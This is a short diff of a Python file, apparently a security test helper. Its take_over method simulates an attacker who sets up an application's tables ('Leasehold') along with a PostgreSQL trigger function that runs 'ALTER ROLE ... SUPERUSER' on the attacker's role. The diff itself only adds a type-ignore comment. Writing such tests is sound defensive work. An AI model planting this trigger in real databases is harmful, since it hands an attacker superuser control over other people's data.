@@ -44,7 +44,7 @@ class Database:
 
     def take_over(self) -> None:
         """The attacker makes the tables of Leasehold, with a trigger that makes a superuser of whoever it can."""
-        open_store(self.url_of(self.attacker)).create_schema()
+        open_store(self.url_of(self.attacker)).create_schema()  # type: ignore[attr-defined]
         self.run(
             "CREATE FUNCTION mischief() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
             f"EXECUTE 'ALTER ROLE {self.attacker} SUPERUSER'; RETURN NEW; END $$",
